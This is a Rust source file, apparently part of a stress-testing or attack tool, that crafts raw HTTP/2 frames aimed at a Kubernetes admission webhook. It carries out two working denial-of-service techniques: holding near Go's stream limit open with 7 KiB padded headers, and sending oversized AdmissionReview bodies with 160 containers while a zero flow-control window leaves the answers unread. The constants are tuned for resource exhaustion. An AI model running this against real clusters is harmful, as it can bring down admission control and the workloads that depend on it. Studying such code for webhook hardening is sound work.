//! The frames that one connection of an attack sends, and how it reads the answers. Pure: no I/O.

use std::collections::BTreeSet;

use serde_json::json;

use super::Name;
use crate::socket::http2::raw::{self, Code, Cutter, Fault, Frame};
use crate::wire::Endpoint;

/// Maximum number of open streams of a connection. Go's HTTP/2 server allows 250 by default, and may still count
/// streams that have ended.
const OPEN_MAX: usize = 240;
/// Number of streams that a connection opens each half second. With 64 connections that is 2,560 streams a second, of 7
/// KiB each.
const STREAMS_A_TURN: usize = 20;
/// Number of reviews that a connection sends each half second. Each review costs the webhook as much as 160 images do.
const REVIEWS_A_TURN: usize = 5;
/// The length of the field that makes a head large: below the 8 KiB that servers commonly allow.
const FILLER_BYTES: usize = 7000;
/// Number of containers of a review. All containers name one image, which costs one look-up. Each container is one
/// write of the patch; all writes together have 36 KiB as base64.
const CONTAINERS: usize = 160;
/// The flow-control window of a connection before the first frame of the server (RFC 9113, section 6.9.2).
const WINDOW_AT_FIRST_BYTES: i64 = 65_535;
/// The identifiers of `SETTINGS_HEADER_TABLE_SIZE` and `SETTINGS_INITIAL_WINDOW_SIZE` (RFC 9113, section 6.5.2).
const SETTING_TABLE: u16 = 1;
const SETTING_WINDOW: u16 = 4;
/// Indices of the header names in HPACK's static table (RFC 7541, appendix A).
const AUTHORITY: usize = 1;
const PATH: usize = 4;
const CONTENT_TYPE: usize = 31;

/// The requests that all connections of an attack send, made once.
#[derive(Debug)]
pub(super) struct Script {
    name: Name,
    head: Vec<u8>,
    /// The head of a request with an additional field of [`FILLER_BYTES`].
    large_head: Vec<u8>,
    /// The body of each request: a review.
    body: Vec<u8>,
}

pub(super) struct Session<'s> {
    script: &'s Script,
    cutter: Cutter,
    next: u32,
    open: BTreeSet<u32>,
    window: i64,
    done: Done,
}

/// The effects on the connection since the last call of [`Session::take`].
#[derive(Debug, Default, Clone, Copy, PartialEq, Eq)]
pub(super) struct Done {
    pub streams: u64,
    pub refused: u64,
    pub reset: u64,
    pub unread: u64,
}

impl Script {
    pub(super) fn new(name: Name, endpoint: &Endpoint, image: &str) -> Self {
        let head = head(&endpoint.authority, &endpoint.path);
        let mut large_head = head.clone();
        // A new name, and a value that the server is told not to keep.
        large_head.extend_from_slice(&[0x00, 1, b'x']);
        raw::number(0, 7, FILLER_BYTES, &mut large_head);
        large_head.resize(large_head.len() + FILLER_BYTES, b'v');
        Self { name, head, large_head, body: review(image) }
    }
}

impl<'s> Session<'s> {
    /// A session whose connection has sent no frame yet.
    pub(super) fn new(script: &'s Script) -> Self {
        let (cutter, open) = (Cutter::new(), BTreeSet::new());
        Self { script, cutter, next: 1, open, window: WINDOW_AT_FIRST_BYTES, done: Done::default() }
    }

    /// Writes the first bytes of a connection. The flow-control window of 0 keeps the server from sending any byte of
    /// an answer's body.
    pub(super) fn greet(out: &mut Vec<u8>) {
        out.extend_from_slice(raw::PREFACE);
        raw::settings(&[(SETTING_TABLE, 0), (SETTING_WINDOW, 0)], out);
    }

    /// Writes the frames of one half second.
    pub(super) fn turn(&mut self, out: &mut Vec<u8>) {
        match self.script.name {
            Name::OpenStreams => {
                // A whole request, by which a connection shows that it is a client's.
                if let Some(stream) = self.begin() {
                    raw::headers(&[&self.script.head], stream, true, out);
                }
                for _ in 0..STREAMS_A_TURN {
                    let Some(stream) = self.begin() else { return };
                    raw::headers(&[&self.script.large_head], stream, false, out);
                }
            }
            Name::UnreadAnswers => {
                let bytes = i64::try_from(self.script.body.len()).unwrap_or(i64::MAX);
                for _ in 0..REVIEWS_A_TURN {
                    if self.window < bytes {
                        return;
                    }
                    let Some(stream) = self.begin() else { return };
                    self.window -= bytes;
                    raw::headers(&[&self.script.head], stream, false, out);
                    let mut pieces = self.script.body.chunks(raw::PAYLOAD_MAX_BYTES).peekable();
                    while let Some(piece) = pieces.next() {
                        raw::data(piece.len(), stream, pieces.peek().is_none(), out);
                        out.extend_from_slice(piece);
                    }
                }
            }
        }
    }

    /// Reads received bytes, and writes the frames that the server must get in reply.
    pub(super) fn read(&mut self, bytes: &[u8], out: &mut Vec<u8>) -> Result<(), String> {
        let (open, window, done) = (&mut self.open, &mut self.window, &mut self.done);
        let read = self.cutter.feed(bytes, |frame| {
            match frame {
                Frame::Settings(_) => raw::settings_acknowledged(out),
                Frame::Ping(opaque) => raw::pong(opaque, out),
                Frame::WindowUpdate { stream: 0, increment } => *window += i64::from(increment),
                Frame::Headers { stream, end, .. } => {
                    if end {
                        open.remove(&stream);
                    } else {
                        done.unread += 1;
                    }
                }
                Frame::Data { stream, end: true, .. } => {
                    open.remove(&stream);
                }
                Frame::Reset { stream, code } if open.remove(&stream) => {
                    let count = if code == Code::REFUSED_STREAM { &mut done.refused } else { &mut done.reset };
                    *count += 1;
                }
                Frame::GoAway { .. } => return Err(Fault { code: Code::NO_ERROR, text: "the webhook said goodbye" }),
                _ => {}
            }
            Ok(())
        });
        read.map_err(|fault| fault.text.to_owned())
    }

    /// Returns the effects since the last call of this function.
    pub(super) fn take(&mut self) -> Done {
        std::mem::take(&mut self.done)
    }

    /// The number of a new stream, if the connection may open another stream.
    fn begin(&mut self) -> Option<u32> {
        if self.open.len() >= OPEN_MAX || self.next > i32::MAX.cast_unsigned() {
            return None;
        }
        let stream = self.next;
        self.next += 2;
        self.open.insert(stream);
        self.done.streams += 1;
        Some(stream)
    }
}

/// The HPACK text of a POST of JSON over https, with all fields in full and without indexing.
fn head(authority: &str, path: &str) -> Vec<u8> {
    let mut block = vec![raw::METHOD_POST, raw::SCHEME_HTTPS];
    for (name, value) in [(AUTHORITY, authority), (PATH, path), (CONTENT_TYPE, "application/json")] {
        raw::number(0, 4, name, &mut block);
        raw::number(0, 7, value.len(), &mut block);
        block.extend_from_slice(value.as_bytes());
    }
    block
}

/// A review of a Pod that contains one image many times.
fn review(image: &str) -> Vec<u8> {
    let containers: Vec<_> = (0..CONTAINERS).map(|at| json!({"name": format!("c{at}"), "image": image})).collect();
    let object = json!({
        "apiVersion": "v1", "kind": "Pod", "metadata": {"name": "unread", "namespace": "hostile"},
        "spec": {"containers": containers},
    });
    let request = json!({
        "uid": "7d4e9f1c-0000-4000-8000-000000000000",
        "kind": {"group": "", "version": "v1", "kind": "Pod"},
        "resource": {"group": "", "version": "v1", "resource": "pods"},
        "name": "unread", "namespace": "hostile", "operation": "CREATE",
        "userInfo": {"username": "mallory"}, "object": object, "oldObject": null, "dryRun": true,
    });
    let review = json!({"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview", "request": request});
    review.to_string().into_bytes()
}
